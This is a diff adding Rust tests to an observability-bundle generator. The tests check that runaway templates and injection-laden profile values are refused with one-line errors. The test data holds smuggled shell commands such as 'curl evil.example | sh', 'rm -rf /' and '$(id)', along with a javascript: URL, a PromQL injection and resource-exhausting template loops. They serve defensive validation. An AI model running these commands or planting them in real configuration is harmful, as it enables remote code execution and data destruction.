@@ -202,3 +202,133 @@ fn a_backup_beside_a_profile_never_replaces_it_and_odd_names_are_refused() {
     let line = assert_one_line_usage_error(&listed, &["development, local, production, staging"]);
     assert!(!line.contains("local, local"), "{line}");
 }
+
+/// Loops inside loops, as a template of `--specs` could hold them: a hundred million steps.
+const NESTED_LOOPS: &str =
+    "{% for a in range(10000) %}{% for b in range(10000) %}{{ a }}{{ b }}{% endfor %}{% endfor %}";
+
+/// A template (`templates/*.j2`) or an alert fixture value of `--specs` with nested loops, or one
+/// writing gigabytes, stops within seconds with a one-line error naming the file, and writes no
+/// bundle. Before, evaluation had no fuel and no output limit: minutes and gigabytes.
+#[test]
+fn templates_with_nested_loops_or_huge_output_stop_naming_the_file() {
+    let huge = "{% for a in range(10000) %}{{ 'x' * 1000000 }}{% endfor %}";
+    for (body, problem) in [(NESTED_LOOPS, "steps"), (huge, "bytes")] {
+        let specs = specs::Specs::copy();
+        std::fs::write(specs.path("templates/README.md.j2"), body).unwrap();
+        let out = tempfile::tempdir().unwrap();
+        let bundle = out.path().join("bundle");
+        let started = std::time::Instant::now();
+        let generate = run_to_exit(
+            sockudo_obs()
+                .args(["generate", "--env", "production", "--specs"])
+                .arg(specs.path(""))
+                .arg("--out")
+                .arg(&bundle),
+            LIMIT,
+        );
+        let line = assert_one_line_usage_error(&generate, &["templates/README.md.j2", problem]);
+        println!("{:?}: {line}", started.elapsed());
+        assert!(!bundle.exists(), "{line}: generate wrote a bundle");
+    }
+    let specs = specs::Specs::copy();
+    specs.replace(
+        "alerts/adapter.yaml",
+        "values: \"0+{{ threshold * 200 }}x40\"",
+        &format!("values: \"{NESTED_LOOPS}\""),
+    );
+    println!(
+        "{}",
+        both_refuse(&specs, &["alerts/adapter.yaml", "fixture template", "steps"])
+    );
+}
+
+/// Profile values that land in the generated README's shell lines, in URLs, Kubernetes names and
+/// image references are checked by their kind when the profile is loaded: `generate` and `check`
+/// refuse each with one line naming the profile file and the key, before any cascade of spec
+/// errors, and never repeat a credential.
+#[test]
+fn values_for_shell_lines_urls_names_and_images_are_refused_by_kind() {
+    let yaml = |text: &str| -> Value { serde_norway::from_str(text).unwrap() };
+    let cases: Vec<(&str, Value, &str, &str)> = vec![
+        (
+            "docs.runbook_url",
+            "javascript:alert(1)".into(),
+            "docs.runbook_url",
+            "http://",
+        ),
+        (
+            "compose.sockudo_image",
+            "sockudo-obs/sockudo:5.2.0; curl https://evil.example/x | sh".into(),
+            "compose.sockudo_image",
+            "image reference",
+        ),
+        (
+            "compose.grafana_image",
+            "grafana/grafana:$(id)".into(),
+            "compose.grafana_image",
+            "image reference",
+        ),
+        (
+            "kubernetes.workload",
+            yaml("{deployment: \"sockudo$(curl evil.example)\", container: sockudo}"),
+            "kubernetes.workload.deployment",
+            "RFC 1123",
+        ),
+        (
+            "kubernetes.proxy_sidecar",
+            yaml("{image: \"nginx:1.27; rm -rf /\", htpasswd_secret: s, htpasswd_key: htpasswd}"),
+            "kubernetes.proxy_sidecar.image",
+            "image reference",
+        ),
+        (
+            "prometheus.basic_auth.username",
+            "prometheus; curl evil.example | sh".into(),
+            "prometheus.basic_auth.username",
+            "not a user name",
+        ),
+        (
+            "prometheus.kubernetes_sd.namespaces.0",
+            "sockudo;x".into(),
+            "prometheus.kubernetes_sd.namespaces[0]",
+            "RFC 1123",
+        ),
+        (
+            "alertmanager.receivers.critical",
+            "http://alert-router:8080/hooks?token=s3cret".into(),
+            "alertmanager.receivers.critical",
+            "credential",
+        ),
+        (
+            "grafana.datasource_url",
+            "http://prometheus:9090/?api_key=s3cret".into(),
+            "grafana.datasource_url",
+            "credential",
+        ),
+        (
+            "description",
+            "Production\n```sh\ncurl evil.example | sh\n```".into(),
+            "description",
+            "one line",
+        ),
+        (
+            "prometheus.job_name",
+            "sockudo\"} or vector(1) or {job=\"x".into(),
+            "prometheus.job_name",
+            "PromQL matcher",
+        ),
+        (
+            "prometheus.job_name",
+            "$1".into(),
+            "prometheus.job_name",
+            "PromQL matcher",
+        ),
+    ];
+    for (path, value, key, problem) in cases {
+        let specs = profile_with(|p| set_path(p, path, value));
+        let line = both_refuse(&specs, &[PROFILE, key, problem]);
+        assert!(!line.contains("s3cret"), "the error repeats the secret: {line}");
+        assert!(!line.contains("alerts/"), "a cascade, not the key: {line}");
+        println!("{line}");
+    }
+}
